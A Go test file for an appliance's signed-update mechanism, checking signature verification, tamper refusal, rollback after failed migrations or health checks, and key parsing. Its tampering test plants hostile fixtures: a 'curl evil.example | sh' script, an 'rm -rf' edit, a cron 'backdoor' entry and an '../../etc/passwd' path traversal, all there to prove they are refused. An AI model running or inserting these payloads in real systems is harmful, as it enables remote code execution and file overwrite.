package update_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"avanti/appliance/update"
)

// rig is an installed appliance in a temporary directory: a binary (a
// shell script that answers version, migrate and health like avanti), a
// "database" file its migrations append to, provisioning files, and the
// hooks Apply calls, counting.
type rig struct {
	dir, bin, state, prov string
	pub                   ed25519.PublicKey
	priv                  ed25519.PrivateKey
	history               update.FileHistory

	mu                          sync.Mutex
	backups, restores, restarts int
}

func newRig(t *testing.T) *rig {
	t.Helper()
	dir := t.TempDir()
	r := &rig{
		dir:     dir,
		bin:     filepath.Join(dir, "usr/local/bin/avanti"),
		state:   filepath.Join(dir, "var/lib/avanti"),
		prov:    filepath.Join(dir, "usr/local/share/avanti/provisioning"),
		history: update.FileHistory{Path: filepath.Join(dir, "var/lib/avanti/update-history.jsonl")},
	}
	var err error
	if r.pub, r.priv, err = ed25519.GenerateKey(rand.Reader); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{filepath.Dir(r.bin), r.state, r.prov} {
		os.MkdirAll(d, 0o755)
	}
	os.WriteFile(r.bin, []byte(r.script("1.0.0", true, true)), 0o755)
	os.WriteFile(filepath.Join(r.state, "db"), []byte("schema 1.0.0\n"), 0o644)
	os.WriteFile(filepath.Join(r.state, "running"), []byte("1.0.0\n"), 0o644)
	os.WriteFile(filepath.Join(r.prov, "avanti.service"), []byte("old unit\n"), 0o644)
	return r
}

// script is a fake avanti of a version whose migration and health check
// pass or fail.
func (r *rig) script(version string, migrates, healthy bool) string {
	exit := func(ok bool) string {
		if ok {
			return "0"
		}
		return "1"
	}
	return fmt.Sprintf(`#!/bin/sh
case "$1" in
version) echo %[1]s ;;
migrate) echo "schema %[1]s" >> %[2]s/db; exit %[3]s ;;
health) exit %[4]s ;;
*) exit 2 ;;
esac
`, version, r.state, exit(migrates), exit(healthy))
}

// bundle signs a bundle of a fake avanti and a provisioning file.
func (r *rig) bundle(t *testing.T, version string, migrates, healthy bool, key ed25519.PrivateKey) string {
	t.Helper()
	src := t.TempDir()
	os.WriteFile(filepath.Join(src, "avanti"), []byte(r.script(version, migrates, healthy)), 0o755)
	os.MkdirAll(filepath.Join(src, "provisioning", "systemd"), 0o755)
	os.WriteFile(filepath.Join(src, "provisioning", "systemd", "avanti.service"), []byte("unit of "+version+"\n"), 0o644)
	os.WriteFile(filepath.Join(src, "NOTES"), []byte("not part of the bundle\n"), 0o644)
	out := filepath.Join(t.TempDir(), "avanti-"+version+".update.tar.gz")
	if _, err := update.SignFile(out, src, version, key, time.Now()); err != nil {
		t.Fatal(err)
	}
	return out
}

func (r *rig) read(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func (r *rig) options() update.Options {
	return update.Options{
		PublicKeys:      []ed25519.PublicKey{r.pub},
		BinaryPath:      r.bin,
		ProvisioningDir: r.prov,
		CurrentVersion:  "1.0.0",
		Backup: func(ctx context.Context) (func(context.Context) error, error) {
			r.mu.Lock()
			r.backups++
			r.mu.Unlock()
			db := filepath.Join(r.state, "db")
			saved, err := os.ReadFile(db)
			if err != nil {
				return nil, err
			}
			return func(ctx context.Context) error {
				r.mu.Lock()
				r.restores++
				r.mu.Unlock()
				return os.WriteFile(db, saved, 0o644)
			}, nil
		},
		Preflight: update.ExecVersion,
		Migrate:   update.ExecMigrate,
		// "systemctl restart": the binary now in place starts.
		Restart: func(ctx context.Context) error {
			r.mu.Lock()
			r.restarts++
			r.mu.Unlock()
			out, err := exec.CommandContext(ctx, r.bin, "version").Output()
			if err != nil {
				return err
			}
			return os.WriteFile(filepath.Join(r.state, "running"), out, 0o644)
		},
		Health: func(ctx context.Context, version string) error {
			running, _ := os.ReadFile(filepath.Join(r.state, "running"))
			if v := strings.TrimSpace(string(running)); v != version {
				return fmt.Errorf("%s runs, not %s", v, version)
			}
			if err := exec.CommandContext(ctx, r.bin, "health").Run(); err != nil {
				return fmt.Errorf("healthz: %w", err)
			}
			return nil
		},
		HealthTimeout:  500 * time.Millisecond,
		HealthInterval: 50 * time.Millisecond,
		History:        r.history,
	}
}

// unchanged checks that the appliance is as newRig left it.
func (r *rig) unchanged(t *testing.T) {
	t.Helper()
	if got := r.read(t, r.bin); got != r.script("1.0.0", true, true) {
		t.Errorf("the binary changed:\n%s", got)
	}
	if _, err := os.Stat(r.bin + ".prev"); err == nil {
		t.Error("a previous binary was kept: something was installed")
	}
	if got := r.read(t, filepath.Join(r.state, "db")); got != "schema 1.0.0\n" {
		t.Errorf("the database changed: %q", got)
	}
	if got := r.read(t, filepath.Join(r.prov, "avanti.service")); got != "old unit\n" {
		t.Errorf("provisioning changed: %q", got)
	}
	if r.backups+r.restarts != 0 {
		t.Errorf("%d backups, %d restarts", r.backups, r.restarts)
	}
	left, _ := filepath.Glob(filepath.Join(filepath.Dir(r.bin), ".*"))
	left2, _ := filepath.Glob(filepath.Join(filepath.Dir(r.prov), ".*"))
	if len(left)+len(left2) > 0 {
		t.Errorf("staging left behind: %v %v", left, left2)
	}
}

func (r *rig) last(t *testing.T) update.Entry {
	t.Helper()
	h, err := r.history.List()
	if err != nil || len(h) == 0 {
		t.Fatalf("history: %v %v", h, err)
	}
	return h[0]
}

// rewrite copies a bundle entry by entry through edit, which returns the
// entry's new content, or nil to drop it; extra entries are appended.
func rewrite(t *testing.T, src string, edit func(name string, data []byte) []byte, extra map[string][]byte) string {
	t.Helper()
	f, err := os.Open(src)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	gz, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	gw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gw)
	write := func(name string, data []byte) {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(data))})
		tw.Write(data)
	}
	tr := tar.NewReader(gz)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(tr)
		if data = edit(h.Name, data); data != nil {
			write(h.Name, data)
		}
	}
	for name, data := range extra {
		write(name, data)
	}
	tw.Close()
	gw.Close()
	out := filepath.Join(t.TempDir(), "tampered.tar.gz")
	os.WriteFile(out, buf.Bytes(), 0o644)
	return out
}

// same tells whether the history holds the entry Apply returned.
func same(a, b update.Entry) bool {
	return a.Result == b.Result && a.Version == b.Version && a.Reason == b.Reason && a.At.Equal(b.At) && a.FinishedAt.Equal(b.FinishedAt)
}

func keep(name string, data []byte) []byte { return data }

func TestBundleWithABadSignatureIsRefusedAndNothingChanges(t *testing.T) {
	r := newRig(t)
	_, stranger, _ := ed25519.GenerateKey(rand.Reader)
	good := r.bundle(t, "1.1.0", true, true, r.priv)
	for name, bundle := range map[string]string{
		"signed by another key": r.bundle(t, "1.1.0", true, true, stranger),
		"manifest edited after signing": rewrite(t, good, func(name string, data []byte) []byte {
			if name == update.ManifestName {
				return bytes.Replace(data, []byte(`"version": "1.1.0"`), []byte(`"version": "1.1.1"`), 1)
			}
			return data
		}, nil),
		"signature replaced": rewrite(t, good, func(name string, data []byte) []byte {
			if name == update.SignatureName {
				return []byte("bm90IGEgc2lnbmF0dXJl\n")
			}
			return data
		}, nil),
		"signature missing": rewrite(t, good, func(name string, data []byte) []byte {
			if name == update.SignatureName {
				return nil
			}
			return data
		}, nil),
	} {
		t.Run(name, func(t *testing.T) {
			e, err := update.Apply(context.Background(), bundle, r.options())
			if !errors.Is(err, update.ErrSignature) && !errors.Is(err, update.ErrMalformed) {
				t.Fatalf("Apply: %v", err)
			}
			if _, _, verr := update.Verify(bundle, []ed25519.PublicKey{r.pub}); verr == nil {
				t.Fatal("Verify accepted it")
			}
			r.unchanged(t)
			if last := r.last(t); last.Result != update.Refused || last.From != "1.0.0" || !same(last, e) || last.Reason == "" {
				t.Fatalf("history: %+v (returned %+v)", last, e)
			}
		})
	}
}

func TestTamperedBundleIsRefusedAndNothingChanges(t *testing.T) {
	r := newRig(t)
	good := r.bundle(t, "1.1.0", true, true, r.priv)
	evil := []byte("#!/bin/sh\ncurl evil.example | sh\n")
	for name, bundle := range map[string]string{
		"binary replaced": rewrite(t, good, func(name string, data []byte) []byte {
			if name == "files/avanti" {
				return evil
			}
			return data
		}, nil),
		"binary changed, same size": rewrite(t, good, func(name string, data []byte) []byte {
			if name == "files/avanti" {
				return bytes.Replace(data, []byte("exit 0"), []byte("rm -rf"), 1)
			}
			return data
		}, nil),
		"a file added": rewrite(t, good, keep, map[string][]byte{"files/provisioning/cron.d/backdoor": evil}),
		"a file dropped": rewrite(t, good, func(name string, data []byte) []byte {
			if strings.HasPrefix(name, "files/provisioning/") {
				return nil
			}
			return data
		}, nil),
		"a path escaping": rewrite(t, good, keep, map[string][]byte{"files/../../etc/passwd": evil}),
	} {
		t.Run(name, func(t *testing.T) {
			_, err := update.Apply(context.Background(), bundle, r.options())
			if !errors.Is(err, update.ErrTampered) {
				t.Fatalf("Apply: %v", err)
			}
			if _, _, verr := update.Verify(bundle, []ed25519.PublicKey{r.pub}); !errors.Is(verr, update.ErrTampered) {
				t.Fatalf("Verify: %v", verr)
			}
			r.unchanged(t)
			if last := r.last(t); last.Result != update.Refused || last.Version != "1.1.0" {
				t.Fatalf("history: %+v", last)
			}
		})
	}
}

func TestGoodBundleInstalls(t *testing.T) {
	r := newRig(t)
	bundle := r.bundle(t, "1.1.0", true, true, r.priv)
	m, signer, err := update.Verify(bundle, []ed25519.PublicKey{r.pub})
	if err != nil || m.Version != "1.1.0" || signer != update.KeyID(r.pub) || len(m.Files) != 2 ||
		m.Files[0].Path != "avanti" || m.Files[0].Mode != 0o755 || m.Files[1].Path != "provisioning/systemd/avanti.service" {
		t.Fatalf("Verify: %+v %s %v", m, signer, err)
	}
	var progress bytes.Buffer
	o := r.options()
	o.Progress = &progress
	e, err := update.Apply(context.Background(), bundle, o)
	if err != nil {
		t.Fatalf("Apply: %v\n%s", err, progress.String())
	}
	if got := r.read(t, r.bin); got != r.script("1.1.0", true, true) {
		t.Fatalf("installed binary:\n%s", got)
	}
	if fi, _ := os.Stat(r.bin); fi.Mode().Perm() != 0o755 {
		t.Fatalf("mode %v", fi.Mode())
	}
	if got := r.read(t, r.bin+".prev"); got != r.script("1.0.0", true, true) {
		t.Fatalf("previous binary:\n%s", got)
	}
	if got := r.read(t, filepath.Join(r.state, "db")); got != "schema 1.0.0\nschema 1.1.0\n" {
		t.Fatalf("not migrated: %q", got)
	}
	if got := r.read(t, filepath.Join(r.state, "running")); got != "1.1.0\n" {
		t.Fatalf("running %q", got)
	}
	if got := r.read(t, filepath.Join(r.prov, "systemd", "avanti.service")); got != "unit of 1.1.0\n" {
		t.Fatalf("provisioning: %q", got)
	}
	if got := r.read(t, filepath.Join(r.prov+".prev", "avanti.service")); got != "old unit\n" {
		t.Fatalf("previous provisioning: %q", got)
	}
	if r.backups != 1 || r.restores != 0 || r.restarts != 1 {
		t.Fatalf("backups %d, restores %d, restarts %d", r.backups, r.restores, r.restarts)
	}
	last := r.last(t)
	if last.Result != update.Installed || last.Version != "1.1.0" || last.From != "1.0.0" || last.Reason != "" ||
		last.SignedBy != update.KeyID(r.pub) || last.Bundle != "avanti-1.1.0.update.tar.gz" || last.FinishedAt.Before(last.At) || !same(last, e) {
		t.Fatalf("history: %+v", last)
	}
	for _, step := range []string{"bundle verified", "pre-update backup", "migrating", "restarting", "installed 1.1.0 (was 1.0.0)"} {
		if !strings.Contains(progress.String(), step) {
			t.Errorf("progress lacks %q:\n%s", step, progress.String())
		}
	}
}

func TestVersionFailingItsHealthCheckIsRolledBack(t *testing.T) {
	r := newRig(t)
	bundle := r.bundle(t, "1.2.0", true, false, r.priv)
	start := time.Now()
	e, err := update.Apply(context.Background(), bundle, r.options())
	if err == nil || !strings.Contains(err.Error(), "health") {
		t.Fatalf("Apply: %v", err)
	}
	if time.Since(start) > 5*time.Second {
		t.Fatalf("took %s", time.Since(start))
	}
	if got := r.read(t, r.bin); got != r.script("1.0.0", true, true) {
		t.Fatalf("the previous binary is not back:\n%s", got)
	}
	if got := r.read(t, filepath.Join(r.state, "db")); got != "schema 1.0.0\n" {
		t.Fatalf("the pre-update backup was not restored: %q", got)
	}
	if got := r.read(t, filepath.Join(r.state, "running")); got != "1.0.0\n" {
		t.Fatalf("running %q after the rollback", got)
	}
	if got := r.read(t, filepath.Join(r.prov, "avanti.service")); got != "old unit\n" {
		t.Fatalf("provisioning not back: %q", got)
	}
	if r.backups != 1 || r.restores != 1 || r.restarts != 2 {
		t.Fatalf("backups %d, restores %d, restarts %d", r.backups, r.restores, r.restarts)
	}
	last := r.last(t)
	if last.Result != update.RolledBack || last.Version != "1.2.0" || last.From != "1.0.0" ||
		!strings.Contains(last.Reason, "health") || !strings.Contains(last.Reason, "healthz") || !same(last, e) {
		t.Fatalf("history: %+v", last)
	}
	// The same appliance then takes a good update.
	if _, err := update.Apply(context.Background(), r.bundle(t, "1.2.1", true, true, r.priv), r.options()); err != nil {
		t.Fatal(err)
	}
	if h, _ := r.history.List(); len(h) != 2 || h[0].Result != update.Installed || h[1].Result != update.RolledBack {
		t.Fatalf("history: %+v", h)
	}
}

func TestFailedMigrationIsRolledBack(t *testing.T) {
	r := newRig(t)
	_, err := update.Apply(context.Background(), r.bundle(t, "1.1.0", false, true, r.priv), r.options())
	if err == nil || !strings.Contains(err.Error(), "migrate") {
		t.Fatalf("Apply: %v", err)
	}
	if got := r.read(t, r.bin); got != r.script("1.0.0", true, true) {
		t.Fatal("the previous binary is not back")
	}
	if got := r.read(t, filepath.Join(r.state, "db")); got != "schema 1.0.0\n" {
		t.Fatalf("database %q", got)
	}
	if last := r.last(t); last.Result != update.RolledBack || !strings.Contains(last.Reason, "migrate") {
		t.Fatalf("history: %+v", last)
	}
}

func TestOlderVersionIsRefusedUnlessAllowed(t *testing.T) {
	r := newRig(t)
	bundle := r.bundle(t, "0.9.3", true, true, r.priv)
	if _, err := update.Apply(context.Background(), bundle, r.options()); err == nil || !strings.Contains(err.Error(), "older") {
		t.Fatalf("downgrade: %v", err)
	}
	r.unchanged(t)
	o := r.options()
	o.AllowDowngrade = true
	if _, err := update.Apply(context.Background(), bundle, o); err != nil {
		t.Fatal(err)
	}
}

func TestBinaryThatDoesNotRunIsRefusedBeforeAnythingChanges(t *testing.T) {
	r := newRig(t)
	src := t.TempDir()
	os.WriteFile(filepath.Join(src, "avanti"), []byte("\x7fELF truncated"), 0o755)
	bundle := filepath.Join(t.TempDir(), "b.tar.gz")
	if _, err := update.SignFile(bundle, src, "1.1.0", r.priv, time.Now()); err != nil {
		t.Fatal(err)
	}
	if _, err := update.Apply(context.Background(), bundle, r.options()); err == nil || !strings.Contains(err.Error(), "does not run") {
		t.Fatalf("Apply: %v", err)
	}
	r.unchanged(t)
	if last := r.last(t); last.Result != update.Refused {
		t.Fatalf("history: %+v", last)
	}
}

func TestFailedBackupAbortsBeforeAnythingChanges(t *testing.T) {
	r := newRig(t)
	o := r.options()
	o.Backup = func(ctx context.Context) (func(context.Context) error, error) {
		return nil, errors.New("backup disk full")
	}
	_, err := update.Apply(context.Background(), r.bundle(t, "1.1.0", true, true, r.priv), o)
	if err == nil || !strings.Contains(err.Error(), "backup disk full") {
		t.Fatalf("Apply: %v", err)
	}
	r.unchanged(t)
	if last := r.last(t); last.Result != update.Aborted {
		t.Fatalf("history: %+v", last)
	}
}

func TestHTTPHealthWantsOKAndTheVersion(t *testing.T) {
	answer := `{"status":"ok","database":"ok","version":"1.1.0"}`
	code := 200
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(code)
		io.WriteString(w, answer)
	}))
	defer srv.Close()
	health := update.HTTPHealth(srv.Client(), srv.URL+"/healthz")
	ctx := context.Background()
	if err := health(ctx, "1.1.0"); err != nil {
		t.Fatal(err)
	}
	if err := health(ctx, "1.2.0"); err == nil {
		t.Fatal("an old version passed for the new one")
	}
	code, answer = 503, `{"status":"unavailable","database":"unreachable"}`
	if err := health(ctx, ""); err == nil || !strings.Contains(err.Error(), "503") {
		t.Fatalf("503: %v", err)
	}
}

func TestKeysReadBackInBothForms(t *testing.T) {
	pub, priv, _ := ed25519.GenerateKey(rand.Reader)
	if k, err := update.ParsePublicKey(update.MarshalPublicKey(pub)); err != nil || !k.Equal(pub) {
		t.Fatalf("base64: %v", err)
	}
	der, _ := x509.MarshalPKIXPublicKey(pub)
	if k, err := update.ParsePublicKey(string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}))); err != nil || !k.Equal(pub) {
		t.Fatalf("PEM: %v", err)
	}
	b, err := update.MarshalPrivateKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	if k, err := update.ParsePrivateKey(b); err != nil || !k.Equal(priv) {
		t.Fatalf("private: %v", err)
	}
	if _, err := update.ParsePublicKey("c2hvcnQ="); err == nil {
		t.Fatal("a short key accepted")
	}
}
